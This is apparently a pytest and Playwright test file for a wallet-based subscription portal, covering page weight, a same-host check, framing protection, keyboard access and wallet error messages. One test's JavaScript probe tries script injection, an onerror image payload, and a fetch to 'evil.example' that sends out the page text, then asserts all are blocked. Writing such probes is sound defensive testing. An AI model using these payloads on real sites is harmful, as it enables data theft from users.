"""The portal is light, safe, and for everybody (U1, U5, S8)."""

import gzip
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Response

from tests.web.conftest import Person
from tests.web.test_checkout_safe import REQUESTS_OF_A_PAGE_MAX, WEIGHT_MAX
from tests.web.test_portal import by_wallet, opened, subscribed

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.xdist_group("browser")]

HURT = """async () => {
    const outcome = {};
    const script = document.createElement("script");
    try { script.textContent = "window.hurt = 1"; document.body.append(script); } catch { outcome.text = "refused"; }
    try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hurt = 2'>"); }
    catch { outcome.sink = "refused"; }
    try { setTimeout("window.hurt = 3"); } catch { outcome.eval = "refused"; }
    try { await fetch("https://evil.example/?" + document.body.innerText); } catch { outcome.leak = "refused"; }
    const form = document.createElement("form");
    form.action = "https://evil.example/";
    document.body.append(form);
    form.submit();
    await new Promise((done) => setTimeout(done, 200));
    outcome.cookie = document.cookie;
    outcome.hurt = window.hurt ?? null;
    outcome.here = location.pathname;
    return outcome;
}"""


async def test_U1_every_page_of_the_portal_is_light_and_from_one_address(person: Person) -> None:
    subscription = await subscribed(person)
    await by_wallet(person)
    kept = await person.context.storage_state()
    here = f"/customer/subscriptions/{subscription}"
    loaded = []
    for path in ("/customer/auth", "/customer", here, f"{here}/cancel", f"{here}/plan", "/exit"):
        context = await person.context.browser.new_context(storage_state=kept)  # type: ignore[union-attr]
        page = await context.new_page()
        answers: list[Response] = []
        page.on("response", lambda answer, seen=answers: seen.append(answer))
        await page.goto(person.shop.url + path)
        await page.wait_for_timeout(200)
        assert {urlsplit(answer.url).netloc for answer in answers} == {urlsplit(person.shop.url).netloc}
        assert all(answer.headers["content-encoding"] == "gzip" for answer in answers)
        weight = sum([len(gzip.compress(await answer.body(), 9)) for answer in answers])
        print(f"portal, {path.replace(subscription, '…')}: {weight} bytes gzip in {len(answers)} requests")
        assert len(answers) <= REQUESTS_OF_A_PAGE_MAX
        loaded.append(weight)
        await context.close()
    assert max(loaded) <= WEIGHT_MAX


async def test_S8_injected_scripts_sinks_forms_and_leaks_are_blocked_and_no_script_reads_the_cookie(
    person: Person,
) -> None:
    await by_wallet(person)
    assert await person.page.evaluate(HURT) == {
        "text": "refused",
        "sink": "refused",
        "eval": "refused",
        "leak": "refused",
        "cookie": "",
        "hurt": None,
        "here": "/customer",
    }


async def test_S8_no_page_of_others_can_frame_it(person: Person) -> None:
    await by_wallet(person)
    page = await person.context.new_page()
    await page.set_content(f"<iframe src='{person.shop.url}/customer'></iframe>")
    await page.wait_for_timeout(500)
    texts = [await frame.locator("body").inner_text() for frame in page.frames[1:]]
    assert all("subscriptions" not in text for text in texts)
    await page.close()


async def test_U5_signing_in_canceling_and_revoking_by_keyboard_alone(person: Person) -> None:
    await subscribed(person)
    keys = person.page.keyboard

    async def press_on(name: str) -> None:
        """Go on with Tab until the control of this name has the focus, then press Enter."""
        for _ in range(30):
            await keys.press("Tab")
            found = await person.page.evaluate("document.activeElement.innerText || document.activeElement.value")
            if found and name in found:
                await keys.press("Enter")
                return
        raise AssertionError(f"Tab does not reach {name}")

    await person.page.goto(f"{person.shop.url}/customer/auth")
    await person.page.get_by_role("button", name="Sign in with Test Wallet").wait_for()
    await press_on("Sign in with Test Wallet")
    await person.sees("Your subscriptions")
    assert await person.page.evaluate("document.activeElement.id") == "h"  # a screen reader begins at the heading
    await press_on("Manage Almanac")
    await person.sees("Almanac")
    await press_on("Cancel subscription")
    await person.sees("Cancel Almanac?")
    await press_on("Cancel the subscription")
    await person.page.get_by_text("The subscription will end with its period.").wait_for()
    await press_on("Revoke on the chain")
    await person.page.get_by_text("Done: the network has taken it.").wait_for()


@pytest.mark.parametrize(
    ("method", "code", "told"),
    [
        ("personal_sign", 4001, "You declined in your wallet. Nothing has changed."),
        ("personal_sign", -32601, "This wallet cannot sign"),
        ("eth_requestAccounts", -32002, "Your wallet is already asking you something"),
    ],
)
async def test_U4_faults_of_the_wallet_end_in_words_and_a_next_step(
    person: Person, method: str, code: int, told: str
) -> None:
    person.wallet.fail(method, code)
    await person.page.goto(f"{person.shop.url}/customer/auth")
    button = person.page.get_by_role("button", name="Sign in with Test Wallet")
    await button.click()
    await person.is_told(told)
    if code == 4001:
        await person.look("62-portal-declined")
    await button.click()
    await person.sees("Your subscriptions")


async def test_U4_revoking_may_be_declined_fail_or_need_another_network(person: Person) -> None:
    await subscribed(person)
    await by_wallet(person)
    await opened(person)
    button = person.page.get_by_role("button", name="Revoke on the chain")
    person.wallet.fail("eth_sendTransaction", 4001)
    await button.click()
    await person.is_told("You declined in your wallet. Nothing has changed.")
    person.wallet.breaks = True
    await button.click()
    await person.is_told("The network refused it.")
    await person.look("63-portal-revoke-refused")
    person.wallet.breaks = False
    person.wallet.chain_id = 1
    person.wallet.fail("wallet_switchEthereumChain", 4902)
    await button.click()
    await person.is_told("Your wallet does not know Localnet.")
    await button.click()
    await person.page.get_by_text("Done: the network has taken it.").wait_for()
